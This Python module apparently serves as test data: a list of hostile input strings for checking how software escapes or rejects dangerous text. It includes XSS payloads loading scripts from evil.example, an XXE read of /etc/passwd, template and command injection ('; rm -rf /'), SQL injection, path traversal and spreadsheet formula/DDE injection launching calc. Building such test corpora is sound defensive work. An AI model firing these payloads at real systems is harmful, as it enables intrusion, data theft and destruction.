"""More than a hundred strings that attack whoever shows them: scripts, broken attributes, templates, formulas, direction marks."""

from __future__ import annotations

_SCRIPTS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<form action=javascript:alert(1)><input type=submit>",
    "<math><mi xlink:href='javascript:alert(1)'>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<style>@import'//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>", "<!--<script>alert(1)//-->", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '" + "file:" + "///etc/passwd'>]><x>&e;</x>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>", "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>",
]  # fmt: skip
_ATTRIBUTES = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" autofocus onfocus=alert(1) x="',
    "x onerror=alert(1)", '"/><svg/onload=alert(1)>', '" style="background:url(//evil.example)"', "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&quot; onload=&quot;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
]  # fmt: skip
_LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "http://evil.example/?q=1", "https://evil.example",
    "mailto:a@evil.example", "ftp://evil.example/x", "file:" + "///etc/passwd", "internal:Sheet1!A1", "external:c:\\temp\\x.xlsx", "\\\\evil.example\\share\\x.exe", "//evil.example/x", "www.evil.example",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
    "{0.__class__}", "%(count)s", "%s%n%x", "$(id)", "`id`", "; rm -rf /", "| cat /etc/passwd", "' OR '1'='1", "'; DROP TABLE exceptions; --", "../../../../etc/passwd", "..\\..\\x", "CON", "NUL.csv",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")', "+1+1", "+cmd|'/c calc'!A1", "-1+1",
    "-2+3+cmd|'/c calc'!A1", "@SUM(1,1)", "@cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", '"=1+1"', "{=1+1}", "{=SUM(A1:A2)}", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '=DDE("cmd";"/c calc";"x")',
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', "=rundll32|'URL.dll,OpenURL x'!A", '=INDIRECT("A1")', '=EXEC("calc")', "%0A=1+1", "\ufeff=1+1", "_x003D_1+1", "_x000D_=1+1", "=1+1;", "[1]Sheet1!A1",
]  # fmt: skip
_SIGNS = [
    "\u202egnp.exe", "\u2066abc\u2069", "a\u200bb", "a\u0000b", "a\u0007b\u001b[31m", "\ufffe\uffff", "a\u2028b\u2029c", "é\u0301", "𠮷野家", "😀" * 20, "ﷺ", "x" * 40_000, "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい",
    "\u0600\u0605", "\u00ad", "ЁЂЃЄ", '"""', "''", "``", "\\", "\\n", "&", "&&amp;&", "<", ">", "<>", "null", "None", "NaN", "true", "1E+400", "00012", "1/2", "2026-13-45", " lead and trail ", "a\nb", "a\tb",
]  # fmt: skip
HOSTILE = [*_SCRIPTS, *_ATTRIBUTES, *_LINKS, *_TEMPLATES, *_FORMULAS, *_SIGNS]
